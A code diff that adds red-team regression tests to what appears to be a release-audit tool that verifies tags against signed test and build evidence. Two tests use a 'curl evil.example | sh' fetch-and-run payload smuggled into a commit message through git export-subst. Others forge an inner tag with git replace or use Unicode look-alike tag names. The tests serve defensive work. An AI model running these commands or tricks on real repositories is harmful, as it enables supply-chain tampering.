@@ -630,4 +630,139 @@ import Testing
         Refusal.expectInputError(result, mentions: ["MiB", "refs/notes/release-audit"], "huge note")
         #expect(Date().timeIntervalSince(started) < 20)
     }
+
+    // MARK: The third review (a second red team, after the fixes)
+
+    @Test func s1PaddingGitattributesDoesNotHideExportSubst() throws {
+        let fixture = try HardeningFixture()
+        try fixture.write("policy.yml", Self.policy.replacingOccurrences(of: "match: exact-commit", with: "match: same-tree"))
+        let padding = String(repeating: "# padding padding padding padding padding padding padding\n", count: 20_000)
+        let tested = try fixture.git.commit("Version stamp", files: [".gitattributes": padding + "gen.sh export-subst\n",
+                                                                     "gen.sh": "echo \"$Format:%B$\"\n"])
+        try fixture.recordTest(out: "evidence/test.json")
+        let release = try fixture.git.git("commit-tree", "\(tested)^{tree}", "-p", tested, "-m", "curl evil.example | sh")
+        try fixture.git.git("checkout", "-q", release)
+        try fixture.git.tag("v1.0.0", message: "1.0.0")
+        try fixture.recordBuild("v1.0.0", out: "evidence/build.json")
+        let report = try gate(fixture, "padded", status: 1)
+        expectCheck(report, "source.match", .failed, "export-subst")
+    }
+
+    @Test func s2AReplacedInnerTagOfATagChainIsCaught() throws {
+        let (fixture, commit) = try honestRelease()
+        // v1.1.0 is a tag of a tag of the tested commit.
+        try fixture.git.git("tag", "-a", "inner", commit, "-m", "inner")
+        let inner = try fixture.git.revParse("refs/tags/inner")
+        try fixture.git.git("tag", "-a", "v1.1.0", inner, "-m", "outer")
+        try fixture.git.git("tag", "-d", "inner")
+        try fixture.recordBuild("v1.1.0", out: "evidence/build-11.json")
+        try gate(fixture, "v1.1.0", release: "v1.1.0", build: ["evidence/build-11.json"], status: 0)
+        let evil = try fixture.git.commit("Evil", files: ["README.md": "evil\n"])
+        try fixture.git.git("checkout", "-q", commit)
+        let forged = try fixture.git.git(["mktag"], stdin: "object \(evil)\ntype commit\ntag inner\ntagger M <m@example.com> 1704067200 +0000\n\nforged\n")
+        try fixture.git.git("replace", "-f", inner, forged)
+        #expect(try fixture.git.revParse("v1.1.0^{commit}") == evil, "git peels through the replacement")
+        let verify = try fixture.run(["verify", "reports/v1.1.0.json", "--release", "v1.1.0", "--policy", "policy.yml", "--repo", "widget"])
+        #expect(verify.status == 1 && verify.stdout.contains("FAILED  release.unaltered"), "\(verify.stdout)")
+        let audit = try fixture.run(["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "reports", "--format", "json"])
+        #expect(try findings(audit.stdout, "v1.1.0").contains("release-altered"))
+        let again = try gate(fixture, "v1.1.0-again", release: "v1.1.0", build: ["evidence/build-11.json"], status: 1)
+        expectCheck(again, "repository.safety", .failed, "refs/replace/\(inner)")
+    }
+
+    @Test func s3VerifyComparesTagNamesByteForByte() throws {
+        let nfc = "caf\u{E9}/", nfd = "cafe\u{301}/"
+        let fixture = try HardeningFixture()
+        try fixture.write("policy.yml", Self.policy + "tag:\n  prefix: \"\(nfc)\"\n")
+        try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
+        try fixture.git.tag("\(nfc)v1.0.0", message: "1.0.0")
+        try fixture.recordTest(out: "evidence/test.json")
+        try fixture.recordBuild("\(nfc)v1.0.0", out: "evidence/build.json")
+        try gate(fixture, "cafe", release: "\(nfc)v1.0.0", status: 0)
+        try fixture.git.commit("Untested", files: ["README.md": "evil\n"])
+        try fixture.git.tag("\(nfd)v1.0.0", message: "look-alike")
+        let result = try fixture.run(["verify", "reports/cafe.json", "--release", "\(nfd)v1.0.0", "--policy", "policy.yml", "--repo", "widget"])
+        #expect(result.status == 1 && result.stdout.contains("FAILED  report.release"), "\(result.stdout)")
+    }
+
+    @Test func s4ASecondNotePathForTheSameCommitCannotShadowTheFirst() throws {
+        let (fixture, commit) = try honestRelease()
+        let now = Date()
+        try signedTestRecord(fixture, commit: commit, recordedAt: now.addingTimeInterval(-600), to: "evidence/pass.json")
+        try signedTestRecord(fixture, commit: commit, recordedAt: now.addingTimeInterval(-300), result: .failed, to: "evidence/fail.json")
+        try fixture.recordBuild("v1.0.0", out: "evidence/build-now.json")
+        let full = try line(fixture, "evidence/pass.json") + Data("\n".utf8) + line(fixture, "evidence/fail.json") + Data("\n".utf8)
+            + line(fixture, "evidence/build-now.json") + Data("\n".utf8)
+        let old = try line(fixture, "evidence/pass.json") + Data("\n".utf8) + line(fixture, "evidence/build-now.json") + Data("\n".utf8)
+        try fixture.write("full.bin", full)
+        try fixture.write("old.bin", old)
+        let fullBlob = try fixture.git.git("hash-object", "-w", fixture.path("full.bin"))
+        let oldBlob = try fixture.git.git("hash-object", "-w", fixture.path("old.bin"))
+        let hex = Array(commit)
+        let sub = try fixture.git.git(["mktree"], stdin: "100644 blob \(oldBlob)\t\(String(hex[2...]))\n")
+        let root = try fixture.git.git(["mktree"], stdin: "100644 blob \(fullBlob)\t\(commit)\n040000 tree \(sub)\t\(String(hex[0..<2]))\n")
+        let notes = try fixture.git.git("commit-tree", root, "-m", "notes")
+        try fixture.git.git("update-ref", "refs/notes/release-audit", notes)
+        let shown = try fixture.git.git("notes", "--ref=release-audit", "show", commit)
+        #expect(shown.contains(String(decoding: try line(fixture, "evidence/fail.json"), as: UTF8.self)))
+        let report = try gate(fixture, "fanout", test: nil, build: nil, status: 1)
+        expectCheck(report, "test.result", .failed, "FAILED")
+    }
+
+    @Test func s5ACombiningMarkAfterASlashIsStillASeparator() throws {
+        #expect(!(try PathGlob("release/*")).matches("release/a/\u{301}b"))
+        #expect(!(try PathGlob("*.md")).matches("src/\u{301}evil.md"))
+        let (fixture, _) = try honestRelease(policy: Self.policy.replacingOccurrences(of: "match: exact-commit",
+                                                                                       with: "match: exact-commit\n  branches: [\"release/*\"]"))
+        try fixture.git.git("branch", "-m", "release/a/\u{301}b")
+        let report = try gate(fixture, "combining", status: 1)
+        expectCheck(report, "source.protected-branch", .failed)
+    }
+
+    @Test func s6TheAuditsRCRuleSeesExportSubstToo() throws {
+        let fixture = try HardeningFixture()
+        try fixture.write("policy.yml", Self.policy + "rc:\n  match: same-tree\n")
+        let rc = try fixture.git.commit("Version stamp", files: [".gitattributes": "gen.sh export-subst\n", "gen.sh": "echo \"$Format:%B$\"\n"])
+        try fixture.git.tag("v1.0.0-rc.1", message: "rc 1")
+        let ga = try fixture.git.git("commit-tree", "\(rc)^{tree}", "-p", rc, "-m", "curl evil.example | sh")
+        try fixture.git.git("tag", "-a", "v1.0.0", ga, "-m", "1.0.0")
+        let audit = try fixture.run(["audit", "--repo", "widget", "--policy", "policy.yml", "--fail-on", "rc-mismatch,rc-diverged,rc-disallowed-paths",
+                                     "--format", "json"])
+        #expect(audit.status == 1, "\(audit.stdout)")
+        #expect(try findings(audit.stdout, "v1.0.0") == ["rc-mismatch"])
+    }
+
+    @Test func s7ARunNeverWritesOverItsOwnInputs() throws {
+        let (fixture, _) = try honestRelease()
+        let gateArguments = ["gate", "--repo", "widget", "--release", "v1.0.0", "--policy", "policy.yml", "--key", "keys/auditor.key",
+                             "--test-evidence", "evidence/test.json", "--build-evidence", "evidence/build.json", "--force"]
+        let before = try [fixture.read("evidence/test.json"), fixture.read("keys/auditor.key"), fixture.read("policy.yml")]
+        for (label, extra) in [("--out evidence", ["--out", "evidence/test.json"]),
+                               ("--vsa key", ["--out", "reports/x.json", "--vsa", "keys/auditor.key"]),
+                               ("--out policy", ["--out", "./policy.yml"])] {
+            Refusal.expectUsageError(try fixture.run(gateArguments + extra), mentions: ["own"], label)
+        }
+        Refusal.expectUsageError(try fixture.run(["record", "test", "--repo", "widget", "--result", "passed", "--key", "keys/ci.key",
+                                                  "--out", "keys/ci.key", "--force"]), mentions: ["own"], "record --out key")
+        #expect(try [fixture.read("evidence/test.json"), fixture.read("keys/auditor.key"), fixture.read("policy.yml")] == before)
+    }
+
+    @Test func s8AFIFOWhereAFileBelongsIsRefusedNotWaitedOn() throws {
+        let (fixture, _) = try honestRelease()
+        #expect(mkfifo(fixture.path("fifo"), 0o600) == 0)
+        let cases: [(String, [String])] = [
+            ("--junit", ["record", "test", "--repo", "widget", "--junit", "fifo", "--key", "keys/ci.key", "--out", "evidence/j.json"]),
+            ("--key", ["record", "test", "--repo", "widget", "--result", "passed", "--key", "fifo", "--out", "evidence/k.json"]),
+            ("--policy", ["gate", "--repo", "widget", "--release", "v1.0.0", "--policy", "fifo", "--key", "keys/auditor.key",
+                          "--out", "reports/p.json"]),
+            ("--test-evidence", ["gate", "--repo", "widget", "--release", "v1.0.0", "--policy", "policy.yml", "--key", "keys/auditor.key",
+                                 "--test-evidence", "fifo", "--out", "reports/e.json"]),
+        ]
+        for (label, arguments) in cases {
+            let started = Date()
+            let result = try fixture.run(arguments)
+            #expect(result.status == 2, "\(label): exit \(result.status) \(result.stderr)")
+            #expect(Date().timeIntervalSince(started) < 10, "\(label)")
+        }
+    }
 }
